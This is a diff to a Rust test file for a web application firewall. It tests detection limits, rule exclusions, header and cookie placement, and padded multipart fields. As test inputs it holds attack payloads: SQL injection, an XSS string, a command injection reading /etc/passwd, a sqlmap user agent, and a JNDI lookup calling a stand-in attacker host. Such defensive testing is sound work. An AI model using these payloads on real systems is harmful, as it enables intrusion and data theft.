@@ -6,6 +6,7 @@ use portcullis::waf::{Exclusion, Field, FieldKind, Place, RawRequest, Ruleset, W
 use serde_json::json;
 
 const SQL: &str = "' union select password from users-- ";
+const LOOKUP: &str = "${jndi:ldap://evil.example/a}";
 const SCRIPT: &str = "<img src=x onerror=alert(1)>";
 
 fn post(waf: &Waf, content_type: &str, body: impl AsRef<[u8]>) -> bool {
@@ -400,5 +401,110 @@ fn bodies_that_somebody_else_would_read_differently_are_refused() {
             request = request.header(header, *value);
         }
         assert_eq!(waf.judge(&request).is_hostile(), refused, "{name}");
+    }
+}
+
+/// A text that takes more steps than its size is worth, and what stands behind it.
+fn heavy(tail: &str) -> String {
+    "'/*a".repeat(32 << 10) + tail
+}
+
+#[test]
+fn a_limit_that_is_switched_off_ends_no_look() {
+    let json = "application/json";
+    let fields = |tail: &str| json!({"a": vec!["x"; 5000], "b": tail}).to_string();
+    let pairs = |a: &str, b: &str| json!({ "a": a, "b": b }).to_string();
+    let nested = |tail: &str| format!("[{}\"{tail}\"{}]", "[".repeat(5000), "]".repeat(5000));
+    let all = Waf::new(Ruleset::builtin());
+    assert!(post(&all, json, fields("x")));
+    assert!(post(&all, json, pairs(&heavy(""), "x")));
+    assert!(post(&all, json, nested("x")));
+    let mut rules = Ruleset::builtin();
+    for id in ["protocol-fields", "protocol-work", "protocol-depth"] {
+        rules = rules.without(id).unwrap();
+    }
+    let off = Waf::builder(rules).field(Field::named("a"), FieldKind::Code);
+    let off = off.build().unwrap();
+    let field = || Field::named("a");
+    let excluded = Waf::builder(Ruleset::builtin())
+        .field(field(), FieldKind::Code)
+        .exclude(Exclusion::of_rule("protocol-work", field()))
+        .build()
+        .unwrap();
+    assert!(!post(&off, json, fields("x")));
+    assert!(post(&off, json, fields(SQL)));
+    assert!(!post(&off, json, nested("x")));
+    assert!(post(&off, json, nested("' union select 1,2-- ")));
+    assert!(!post(&off, json, pairs(&heavy(""), "x")));
+    assert!(post(&off, json, pairs(&heavy(""), SQL)));
+    assert!(post(&off, json, pairs(&heavy(LOOKUP), "x")));
+    assert!(!post(
+        &excluded,
+        json,
+        json!({ "a": heavy("") }).to_string()
+    ));
+    assert!(post(&excluded, json, pairs(&heavy(LOOKUP), "x")));
+    // The others have what is left, which is nothing.
+    assert!(post(&excluded, json, pairs(&heavy(""), "x")));
+}
+
+#[test]
+fn what_is_said_of_a_parameter_is_said_of_no_header() {
+    let field = Field::named("x-note");
+    let opaque = |field| Waf::builder(Ruleset::builtin()).field(field, FieldKind::Opaque);
+    let waf = opaque(field.clone()).build().unwrap();
+    let request = RawRequest::new("GET", "/");
+    let in_header = request.clone().header("x-note", SQL);
+    let cookie = format!("x-note={SQL}");
+    let in_cookie = request.clone().header("cookie", &cookie);
+    assert!(!get(&waf, "x-note", SQL));
+    assert!(waf.judge(&in_header).is_hostile());
+    assert!(waf.judge(&in_cookie).is_hostile());
+    let waf = opaque(field.at(Place::Header)).build().unwrap();
+    assert!(get(&waf, "x-note", SQL));
+    assert!(!waf.judge(&in_header).is_hostile());
+}
+
+#[test]
+fn padding_makes_no_file_of_a_field() {
+    let waf = builtin();
+    let multipart = "multipart/form-data; boundary=b";
+    let mut noise = 17_u32;
+    let mut noisy = |length: usize| -> Vec<u8> {
+        let mut next = || {
+            noise = noise.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
+            (noise >> 24) as u8
+        };
+        (0..length).map(|_| next()).collect()
+    };
+    for content_type in ["image/png", "application/octet-stream", "audio/x"] {
+        for attack in [SQL, SCRIPT, "; cat /etc/passwd"] {
+            for padding in [vec![0; 64], noisy(600)] {
+                let field = [&padding, attack.as_bytes(), &padding].concat();
+                let body = part("", content_type, &field);
+                assert!(post(&waf, multipart, body), "{content_type} {attack}");
+            }
+        }
+        let body = part("", content_type, &noisy(64 << 10));
+        assert!(!post(&waf, multipart, body), "{content_type}");
+    }
+}
+
+/// What is remembered as clean is that, and stays it only where nothing else is around it.
+#[test]
+fn what_was_seen_before_is_seen_again() {
+    let waf = builtin();
+    let agent = "Mozilla/5.0 (X11; Linux x86_64)";
+    for _ in 0..3 {
+        let clean = RawRequest::new("GET", "/?phpsessid=abc")
+            .header("host", "www.example.com")
+            .header("user-agent", agent);
+        assert!(!waf.judge(&clean).is_hostile());
+        let linked = clean.clone().header("referer", "https://other.example/");
+        assert!(waf.judge(&linked).is_hostile());
+        let scanner = RawRequest::new("GET", "/").header("user-agent", "sqlmap/1.0");
+        assert!(waf.judge(&scanner).is_hostile());
+        let attack = RawRequest::new("GET", "/").header("user-agent", SQL);
+        assert!(waf.judge(&attack).is_hostile());
     }
 }
